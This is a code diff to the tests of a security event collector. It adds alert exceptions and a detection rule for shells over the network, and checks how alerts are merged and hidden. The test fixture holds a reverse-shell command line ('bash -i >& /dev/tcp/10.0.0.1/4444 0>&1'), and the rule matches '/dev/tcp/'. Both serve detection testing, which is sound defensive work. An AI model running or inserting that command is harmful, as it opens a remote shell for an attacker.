@@ -3,8 +3,12 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import t, { type Test } from 'tap';
+import { eventOfAlert } from '#shared/detect/alert-event.ts';
 import { type AnyEvent, eventSpecs } from '#shared/events/registry.gen.ts';
+import { decodeBatch } from '#shared/protocol/codec/decode.ts';
+import { eventId } from '#shared/protocol/event-id.ts';
 import { compileRules, parseRules, type RuleSet } from '#shared/sigma/index.ts';
+import { ExceptionSet, subjectOfAlert } from '../../../collector/alerts/exception-set.ts';
 import { createDetector } from '../../../collector/detect/detector.ts';
 import type { PipelineOutput } from '../../../collector/ingest/messages.ts';
 import { PipelineLoop } from '../../../collector/ingest/pipeline-loop.ts';
@@ -27,6 +31,7 @@ function reverseShell(pid: number): AnyEvent {
     'process.pid': pid,
     'process.entity_id': `e${pid}`,
     'process.start': pid * 1000,
+    'user.name': `u${pid}`,
     'process.name': 'bash',
     'process.executable': '/usr/bin/bash',
     'process.command_line': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
@@ -57,6 +62,7 @@ async function open(
   folder: string,
   wrap: (control: ControlStore) => ControlStore = (c) => c,
   rules: RuleSet = ruleSet,
+  exceptions: ExceptionSet = new ExceptionSet([]),
 ): Promise<Opened> {
   const journal = join(folder, 'journal.db');
   const control = await openControlStore(join(folder, 'control.db'), { durable: false });
@@ -66,7 +72,11 @@ async function open(
     writer: openJournalWriter(journal),
     reader: openJournalReader(journal),
     control: wrap(control),
-    makeDetector: () => createDetector(rules),
+    makeDetector: () =>
+      createDetector(rules, {
+        exceptionOf: ({ id }, hit, key) => exceptions.idOf({ ...hit, ruleId: id, key }, Date.now() * 1000),
+      }),
+    hiddenBy: (alert) => exceptions.idOf(subjectOfAlert(alert), Date.now() * 1000),
     snapshotEveryMs: 0,
     post: (message) => said.push(message),
   });
@@ -133,6 +143,83 @@ function raised(said: readonly PipelineOutput[]) {
   return said.flatMap((m) => (m.kind === 'detected' ? m.alerts : []));
 }
 
+const advised = compileRules(
+  parseRules(
+    `title: Shell over the network
+id: advised
+logsource: { category: process_creation }
+detection: { s: { CommandLine|contains: /dev/tcp/ }, condition: s }
+level: high
+confidence: high
+response: End it,
+  and look who began it.
+`,
+    'advised.yml',
+  ).documents,
+  { specs: Object.values(eventSpecs) },
+).ruleSet;
+
+/** What a host tells of what it sees in these events, as batch `sequence` of its own. */
+function toldByHost(sequence: number, ...events: AnyEvent[]): AnyEvent[] {
+  const { data } = batchOf(...events);
+  const decoded = decodeBatch(data);
+  if (!decoded.ok) throw decoded.error;
+  const { groups } = decoded.value;
+  const origin = {
+    ...{ hostId, hostName: 'h', product: 'linux' },
+    eventId: (group: number, row: number) =>
+      eventId({ hostId, stream, sequence, index: (groups[group]?.offset ?? 0) + row }),
+  };
+  return createDetector(advised)
+    .detect(
+      origin,
+      groups.map((group) => group.events),
+      1,
+    )
+    .map((alert) => eventOfAlert(alert, 'f'.repeat(64)));
+}
+
+t.test('what a host told and what is detected are one alert, with what the rule says to do', async (t) => {
+  const folder = tempFolder(t);
+  const events = Array.from({ length: 120 }, () => reverseShell(1));
+  const { give, close } = await open(folder, undefined, advised);
+  give(1, ...toldByHost(2, ...events));
+  give(2, ...events);
+  give(3, ...toldByHost(4, ...events));
+  give(4, ...events);
+  await close();
+  const { alerts } = await alertsIn(folder);
+  t.match(alerts, [
+    {
+      ...{ count: 240, confidence: 95, response: 'End it, and look who began it.' },
+      samples: [{ field: 'process.command_line', values: [{ count: 240 }], others: 0 }],
+    },
+  ]);
+  t.equal(alerts.length, 1);
+  const id = (sequence: number, index: number) => eventId({ hostId, stream, sequence, index });
+  t.strictSame(alerts[0]?.eventIds[0], id(2, 0));
+  t.strictSame(alerts[0]?.eventIds.at(-1), id(4, 119));
+});
+
+t.test('hits of one batch are hidden one by one, those that hosts tell of too', async (t) => {
+  const folder = tempFolder(t);
+  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
+  const entry = { at: 1, actor: 'ada', action: 'exception.make', target: 'exception x', detail: {} };
+  const scope = { ruleId: 'advised', key: null, hosts: 'h*', filter: 'process.pid:>=5' };
+  const made = { id: 'x', ...scope, reason: 'r', madeAt: 1, madeBy: 'ada', expiresAt: 2 ** 51 };
+  await control.alertExceptions.add(made, 10, entry);
+  const exceptions = new ExceptionSet(await control.alertExceptions.list());
+  // Of one user, so that only the exception tells them apart.
+  const events = [1, 5, 2, 6, 7].map((pid) => ({ ...reverseShell(pid), 'user.name': 'eve' }) as AnyEvent);
+  const { give, close } = await open(folder, undefined, advised, exceptions);
+  give(1, ...toldByHost(2, ...events.slice(3)));
+  give(2, ...events);
+  await close();
+  t.match((await alertsIn(folder)).alerts, [{ count: 2, status: 'open' }]);
+  t.match(await control.alertExceptions.list(), [{ hits: 3, lastHost: 'h' }]);
+  await control.close();
+});
+
 t.test('acknowledged before detected, and each alert told with its reason', async (t: Test) => {
   const folder = tempFolder(t);
   const { give, close, said } = await open(folder);
@@ -174,7 +261,8 @@ t.test('a correlation goes on over a restart in the middle of its window', async
   await first.close();
   t.equal(raised(first.said).length, 0);
   const told = first.said.findLast((m) => m.kind === 'detected')?.correlations;
-  t.match(told, { groups: 1, evicted: 0, tooLate: 0 }, 'and says what it holds');
+  t.match(told, { evicted: 0, tooLate: 0 }, 'and says what it holds');
+  t.ok((told?.groups ?? 0) >= 1, 'a group of each correlation that counts them');
   t.ok((told?.sizeBytes ?? 0) > 0);
   const second = await open(folder);
   second.give(2, ...failures(3, 3));
